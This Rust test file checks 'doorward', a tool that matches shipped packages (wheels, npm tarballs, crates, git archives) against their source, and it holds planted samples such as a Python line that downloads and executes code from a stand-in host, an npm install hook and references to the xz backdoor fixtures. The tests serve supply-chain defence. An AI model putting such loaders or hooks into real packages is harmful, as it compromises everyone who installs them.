//! `doorward match` and `doorward index`: what comes from a source is explained, whatever is planted is named, git's own archives
//! are what we read from its objects. All packages are made here; nothing in them is run.

use crate::archives::{base, gzip, mutations, tar, zip};
use crate::{doorward, run};
use serde_json::Value;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn json(arguments: &[&str]) -> Value {
    let output = doorward().arg("match").args(arguments).args(["--json", "-"]).output().unwrap();
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

/// Writes files below a folder.
fn lay(folder: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = folder.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

/// A gzipped tar of these files.
fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let members: Vec<_> = files.iter().map(|(name, text)| ((*name).to_owned(), 0o644, text.as_bytes())).collect();
    gzip(&tar(&members))
}

fn status<'v>(matched: &'v Value, path: &str) -> &'v str {
    let files = matched["files"].as_array().unwrap();
    let file = files.iter().find(|file| file["path"].as_str().unwrap().ends_with(path));
    file.unwrap_or_else(|| panic!("no {path}: {matched:#}"))["status"].as_str().unwrap()
}

const SOURCE: &[(&str, &str)] = &[
    (
        "pyproject.toml",
        "[project]\nname = \"palette\"\nversion = \"1.0\"\ndependencies = [\"colour-kit>=2\"]\n\n[project.scripts]\nmix = \"palette.cli:main\"\n",
    ),
    ("setup.cfg", "# by hand\n[metadata]\nname = palette\n"),
    ("README.md", "# Palette\n\nMixes colours for everybody.\n"),
    ("src/palette/__init__.py", "def mix(a, b):\n    return (a + b) / 2\n\n\ndef split(c):\n    return c / 2, c / 2\n"),
    ("src/palette/cli.py", "from palette import mix\n\n\ndef main():\n    print(mix(1, 2))\n"),
    ("tests/test_mix.py", "from palette import mix\n\n\ndef test_mix():\n    assert mix(1, 3) == 2\n"),
];

fn source(name: &str) -> &'static str {
    SOURCE.iter().find(|(known, _)| *known == name).unwrap().1
}

/// A wheel of the source, with these files replaced or added, and a RECORD of what it then holds.
fn wheel(changes: &[(&str, &str)]) -> Vec<u8> {
    use sha2::Digest;
    let metadata = "Metadata-Version: 2.1\nName: palette\nVersion: 1.0\nRequires-Dist: colour-kit>=2\n\n# Palette\n\nMixes colours for everybody.\n";
    let mut files: Vec<(&str, &str)> = vec![
        ("palette/__init__.py", source("src/palette/__init__.py")),
        ("palette/cli.py", source("src/palette/cli.py")),
        ("palette-1.0.dist-info/METADATA", metadata),
        (
            "palette-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: setuptools (70.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n",
        ),
        ("palette-1.0.dist-info/entry_points.txt", "[console_scripts]\nmix = palette.cli:main\n"),
        ("palette-1.0.dist-info/top_level.txt", "palette\n"),
    ];
    for (name, text) in changes {
        files.retain(|(known, _)| known != name);
        files.push((name, text));
    }
    let digest = |text: &str| data_encoding::BASE64URL_NOPAD.encode(&sha2::Sha256::digest(text));
    let mut record: String =
        files.iter().map(|(name, text)| format!("{name},sha256={},{}\n", digest(text), text.len())).collect();
    record.push_str("palette-1.0.dist-info/RECORD,,\n");
    if !changes.iter().any(|(name, _)| name.ends_with("RECORD")) {
        files.push(("palette-1.0.dist-info/RECORD", &record));
    }
    let members: Vec<_> = files.iter().map(|(name, text)| ((*name).to_owned(), 0o644, text.as_bytes())).collect();
    zip(&members)
}

#[test]
fn a_wheel_comes_from_its_source() {
    let folder = tempfile::tempdir().unwrap();
    lay(&folder.path().join("source"), SOURCE);
    let (at, tree) = (folder.path().join("palette-1.0-py3-none-any.whl"), folder.path().join("source"));
    fs::write(&at, wheel(&[])).unwrap();
    let ran = run(&["match", text(&at), "--source", text(&tree), "--strict"]);
    assert!(ran.code == 0 && ran.out.starts_with("EXPLAINED") && ran.out.contains("all of 7 files"), "{}", ran.out);
    let matched = json(&[text(&at), "--source", text(&tree)]);
    assert_eq!(matched["assurance"], "L2");
    assert_eq!(matched["summary"]["status"]["identical"], 2);
    assert_eq!(matched["summary"]["how"]["packager"], 5);
    assert_eq!(matched, json(&[text(&at), "--source", text(&tree), "--threads", "1"]));
}

/// What is changed in the wheel, and the words that then tell it.
const PLANTED: &[(&str, &str, &str)] = &[
    ("palette/extra.py", "VALUE = 1\n", "nothing of it is in the sources"),
    (
        "palette/__init__.py",
        "def mix(a, b):\n    return (a + b) / 2\n\n\ndef split(c):\n    return c / 3, c / 2\n",
        "from nowhere: line 6",
    ),
    ("palette/__init__.py", "def mix(a, b):\n    return (a + b) / 2\n", "it lacks 4 lines"),
    // The lines are all of the source, and not in its order.
    (
        "palette/__init__.py",
        "def split(c):\n    return c / 2, c / 2\n\n\ndef mix(a, b):\n    return (a + b) / 2\n",
        "palette/__init__.py\n",
    ),
    (
        "palette-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: palette\nVersion: 1.0\nRequires-Dist: colour-kit>=2\nRequires-Dist: other-kit\n\n# Palette\n",
        "from nowhere: line 5",
    ),
    (
        "palette-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: palette\nVersion: 1.0\nRequires-Dist: colour-kit @ https://take.example.test/x.zip\n",
        "METADATA",
    ),
    ("palette-1.0.dist-info/entry_points.txt", "[console_scripts]\nmix = palette.cli:other\n", "entry_points.txt"),
    ("palette-1.0.dist-info/top_level.txt", "palette\nos\n", "top_level.txt"),
    ("palette-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRun: x\n", "WHEEL"),
    (
        "palette-1.0.dist-info/RECORD",
        "palette/cli.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,1\n",
        "it lists another file as palette/cli.py",
    ),
    ("palette/cli.py", "", "it is empty"),
    ("setup.cfg", "[metadata]\nname = palette\nimport os\n", "setup.cfg"),
    (
        "palette-1.0.dist-info/RECORD",
        "palette/__init__.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,1\n",
        "it leaves out palette/cli.py",
    ),
    // The form of a packager's file counts only where the packager writes it.
    ("palette/notes.txt", "Wheel-Version: 1.0\nGenerator: x\n", "notes.txt"),
];

#[test]
fn whatever_is_planted_in_a_wheel_is_named() {
    let folder = tempfile::tempdir().unwrap();
    lay(&folder.path().join("source"), SOURCE);
    let (at, tree) = (folder.path().join("palette-1.0-py3-none-any.whl"), folder.path().join("source"));
    for (name, planted, says) in PLANTED {
        fs::write(&at, wheel(&[(name, planted)])).unwrap();
        let ran = run(&["match", text(&at), "--source", text(&tree), "--strict"]);
        assert!(ran.code == 1 && ran.out.contains(says), "{name}, {says}: {}", ran.out);
        assert_eq!(status(&json(&[text(&at), "--source", text(&tree)]), name), "nothing");
        assert_eq!(run(&["match", text(&at), "--source", text(&tree)]).code, 0, "{name} carries no alarm");
    }
    let loader = "import os\nimport urllib.request\nexec(urllib.request.urlopen('https://updates.example.test/x').read())\n";
    fs::write(&at, wheel(&[("palette/cli.py", loader)])).unwrap();
    let ran = run(&["match", text(&at), "--source", text(&tree)]);
    assert!(ran.code == 1 && ran.out.starts_with("ALARM") && ran.out.contains("ALARM  palette/cli.py"), "{}", ran.out);
    assert!(ran.out.contains("the source has another file at its place"), "{}", ran.out);
}

#[test]
fn known_steps_are_checked() {
    let folder = tempfile::tempdir().unwrap();
    let tree = folder.path().join("source");
    lay(
        &tree,
        &[("a.js", "exports.a = 1\n"), ("b.js", "exports.b = 2\n"), ("package.json", "{\"name\": \"p\", \"main\": \"a.js\"}")],
    );
    lay(&tree, &[("Cargo.toml", "[package]\nname = \"p\"\n\n[dependencies]\nlog = \"0.4\"\n")]);
    let shipped = [
        ("package/a.js", "exports.a = 1\r\n", "line-endings"),
        ("package/all.js", "exports.a = 1\nexports.b = 2\n", "joined"),
        ("package/package.json", "{\n  \"main\": \"a.js\",\n  \"name\": \"p\"\n}\n", "same-values"),
        ("package/empty.js", "", "empty"),
        (
            "package/Cargo.toml",
            "# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nname = \"p\"\nbuild = false\n\n[dependencies.log]\nversion = \"0.4\"\n",
            "same-values",
        ),
    ];
    let files: Vec<_> = shipped.iter().map(|(name, text, _)| (*name, *text)).collect();
    let at = folder.path().join("p-1.0.tgz");
    fs::write(&at, tgz(&files)).unwrap();
    let matched = json(&[text(&at), "--source", text(&tree)]);
    for (name, _, how) in shipped {
        let file = matched["files"].as_array().unwrap().iter().find(|file| file["path"] == name).unwrap();
        assert!(file["status"] == "transformed" && file["how"] == how, "{file:#}");
    }
    for (name, planted) in [
        ("package/package.json", "{\"name\": \"p\", \"main\": \"a.js\", \"scripts\": {\"install\": \"node b.js\"}}"),
        ("package/all.js", "exports.a = 1\nexports.c = 3\nexports.b = 2\n"),
        ("package/Cargo.toml", "# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nname = \"p\"\nbuild = \"b.rs\"\n"),
    ] {
        fs::write(&at, tgz(&[(name, planted)])).unwrap();
        assert_eq!(status(&json(&[text(&at), "--source", text(&tree)]), name), "nothing", "{planted}");
    }
}

#[test]
fn every_mutation_of_a_shipment_shows() {
    let folder = tempfile::tempdir().unwrap();
    let tree = folder.path().join("source");
    for (name, mode, bytes) in base() {
        let path = tree.join(name.strip_prefix("tool-1.0/").unwrap());
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        match bytes.strip_prefix(b"->") {
            Some(target) => std::os::unix::fs::symlink(std::str::from_utf8(target).unwrap(), path).unwrap(),
            None => {
                fs::write(&path, bytes).unwrap();
                fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
            }
        }
    }
    let at = folder.path().join("tool-1.0.tar.gz");
    let seen = |bytes: &[u8]| {
        fs::write(&at, bytes).unwrap();
        let ran = run(&["match", text(&at), "--source", text(&tree)]);
        // The first line names the artefact alone.
        ran.out
    };
    let clean = seen(&gzip(&tar(&base())));
    assert!(clean.starts_with("EXPLAINED") && clean.contains("5 identical; 0 files"), "{clean}");
    for (what, bytes, _) in mutations() {
        // When an archive was packed is nothing that a source could say.
        assert_eq!(seen(&bytes) == clean, what == "another comment in the compression", "{what}: {}", seen(&bytes));
    }
}

#[test]
fn a_tarball_that_adds_to_its_build_is_an_alarm_from_either_side() {
    let incident = |which: &str| format!("{}/../fixtures/incidents/xz/{which}", env!("CARGO_MANIFEST_DIR"));
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path().join("xzkit-1.0.tar.gz");
    let mut files = Vec::new();
    for name in ["Makefile.am", "configure.ac", "m4/build-to-host.m4", "src/crc.c", "tests/files/bad-3-corrupt_block.xz"] {
        files.push((format!("xzkit-1.0/{name}"), 0o644, fs::read(format!("{}/{name}", incident("plain"))).unwrap()));
    }
    let members: Vec<_> = files.iter().map(|(name, mode, bytes)| (name.clone(), *mode, bytes.as_slice())).collect();
    fs::write(&at, gzip(&tar(&members))).unwrap();
    let ran = run(&["match", text(&at), "--source", &incident("clean")]);
    assert_eq!(ran.code, 1);
    for said in [
        "ALARM  xzkit-1.0/m4/build-to-host.m4",
        "from nowhere: lines",
        "Building runs commands that it unpacks from a data file",
        "names test data: xzkit-1.0/tests/files/bad-3-corrupt_block.xz",
    ] {
        assert!(ran.out.contains(said), "{said}: {}", ran.out);
    }
    let ran = run(&["match", &incident("clean"), "--source", text(&at)]);
    assert!(ran.code == 0 && ran.out.contains("m4/build-to-host.m4") && ran.out.contains("it lacks"), "{}", ran.out);
    let ran = run(&["diff", &incident("clean"), text(&at)]);
    assert!(ran.code == 1 && ran.out.contains("ALARM  BLD-2"), "{}", ran.out);
    assert!(!ran.out.contains("New code that runs by itself"), "the folder around an archive is nothing new: {}", ran.out);
}

#[test]
fn what_is_somebody_elses_is_recognised_by_an_index() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    lay(&at("source"), &[("index.js", "require('./vendor/mix')\n")]);
    let library: String = (0..40).map(|at| format!("exports.mix{at} = (a, b) => (a + b) * {at}\n")).collect();
    fs::write(at("mix-2.0.tgz"), tgz(&[("package/mix.js", &library)])).unwrap();
    let ran = run(&["index", text(&at("mix-2.0.tgz")), "--output", text(&at("known.index"))]);
    assert!(ran.code == 0 && ran.out.contains("files"), "{}{}", ran.out, ran.err);
    let altered = library.replace("exports.mix7 = (a, b) => (a + b) * 7", "exports.mix7 = (a, b) => keep(a, b)");
    let shipped = tgz(&[
        ("package/index.js", "require('./vendor/mix')\n"),
        ("package/vendor/mix.js", &library),
        ("package/vendor/mixed.js", &altered),
    ]);
    fs::write(at("p-1.0.tgz"), shipped).unwrap();
    for known in ["known.index", "mix-2.0.tgz"] {
        let matched = json(&[text(&at("p-1.0.tgz")), "--source", text(&at("source")), "--known", text(&at(known))]);
        assert_eq!(status(&matched, "vendor/mix.js"), "known");
        assert_eq!(status(&matched, "vendor/mixed.js"), "nothing");
        let file = matched["files"].as_array().unwrap().iter().find(|file| file["path"] == "package/vendor/mixed.js").unwrap();
        let foreign: Vec<_> = file["ranges"].as_array().unwrap().iter().filter(|range| range.get("from").is_none()).collect();
        assert!(foreign.len() == 1 && foreign[0]["line"] == 8 && foreign[0]["line_end"] == 8, "{file:#}");
    }
    let bytes = fs::read(at("known.index")).unwrap();
    fs::write(at("known.index"), &bytes[..bytes.len() - 3]).unwrap();
    let ran = run(&["match", text(&at("p-1.0.tgz")), "--source", text(&at("source")), "--known", text(&at("known.index"))]);
    assert!(ran.code == 2 && ran.err.contains("make it anew"), "{}", ran.err);
}

/// Runs git in a folder, without its user's configuration.
fn git(folder: &Path, arguments: &[&str]) {
    let mut command = Command::new("git");
    command.current_dir(folder).args([
        "-c",
        "user.name=Ada",
        "-c",
        "user.email=ada@example.test",
        "-c",
        "init.defaultBranch=main",
    ]);
    command.env("GIT_CONFIG_NOSYSTEM", "1").env("HOME", folder).env_remove("GIT_DIR");
    let output = command.args(arguments).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

/// A repository with a tag, a link, a program and a file that git fills in when it exports.
fn repository(folder: &Path) {
    lay(folder, SOURCE);
    lay(
        folder,
        &[
            (".gitattributes", "src/palette/_version.py export-subst\ntests export-ignore\n"),
            ("src/palette/_version.py", "node = \"$Format:%H$\"\nnames = \"$Format:%d$\"\ndate = \"$Format:%ci$\"\n"),
            ("run.sh", "#!/bin/sh\nexec true\n"),
        ],
    );
    fs::set_permissions(folder.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("README.md", folder.join("latest")).unwrap();
    git(folder, &["init", "-q"]);
    git(folder, &["add", "-A"]);
    git(folder, &["commit", "-q", "-m", "all"]);
    git(folder, &["tag", "-a", "v1.0", "-m", "v1.0"]);
}

#[test]
fn gits_own_archive_is_what_its_objects_hold() {
    let folder = tempfile::tempdir().unwrap();
    let (repository_at, at) = (folder.path().join("repository@home"), folder.path().join("palette-1.0.tar"));
    fs::create_dir(&repository_at).unwrap();
    repository(&repository_at);
    git(&repository_at, &["archive", "--prefix=palette-1.0/", "-o", text(&at), "v1.0"]);
    fs::write(repository_at.join("README.md"), "the work tree is not looked at\n").unwrap();
    for packed in [false, true] {
        if packed {
            git(&repository_at, &["gc", "-q", "--aggressive"]);
        }
        for revision in ["v1.0", "main", "HEAD", "refs/tags/v1.0"] {
            let source = format!("git:{}@{revision}", text(&repository_at));
            let ran = run(&["match", text(&at), "--source", &source, "--strict"]);
            assert!(ran.code == 0 && ran.out.contains("1 filled"), "{revision}: {}{}", ran.out, ran.err);
            assert!(ran.out.contains("1 file of the sources not shipped"), "{}", ran.out);
        }
    }
    let ran = run(&["match", text(&at), "--source", &format!("git:{}@v2.0", text(&repository_at))]);
    assert!(ran.code == 2 && ran.err.contains("has no commit v2.0"), "{}", ran.err);
    assert_eq!(run(&["match", text(&at), "--source", &format!("git:{}@v1.0", text(folder.path()))]).code, 2);
}

#[test]
fn an_object_that_is_not_what_its_name_says_is_no_source() {
    let folder = tempfile::tempdir().unwrap();
    repository(folder.path());
    let objects = folder.path().join(".git/objects");
    // Loose objects, each of which takes another's place in turn.
    let loose: Vec<_> = fs::read_dir(&objects)
        .unwrap()
        .flat_map(|entry| fs::read_dir(entry.unwrap().path()).unwrap())
        .map(|entry| entry.unwrap().path())
        .collect();
    let shipped = folder.path().join("a.tgz");
    fs::write(&shipped, tgz(&[("a/run.sh", "#!/bin/sh\nexec true\n")])).unwrap();
    let source = format!("git:{}@main", text(folder.path()));
    assert_eq!(run(&["match", text(&shipped), "--source", &source]).code, 0);
    for (one, other) in loose.iter().zip(loose.iter().cycle().skip(1)) {
        let kept = fs::read(one).unwrap();
        fs::set_permissions(one, fs::Permissions::from_mode(0o644)).unwrap();
        fs::write(one, fs::read(other).unwrap()).unwrap();
        let ran = run(&["match", text(&shipped), "--source", &source, "--json", "-"]);
        let is_tag = ran.code == 0;
        assert!(is_tag || ran.code == 2 || ran.out.contains("not above L0: source 1 was not read whole"), "{}", ran.out);
        fs::write(one, kept).unwrap();
    }
}
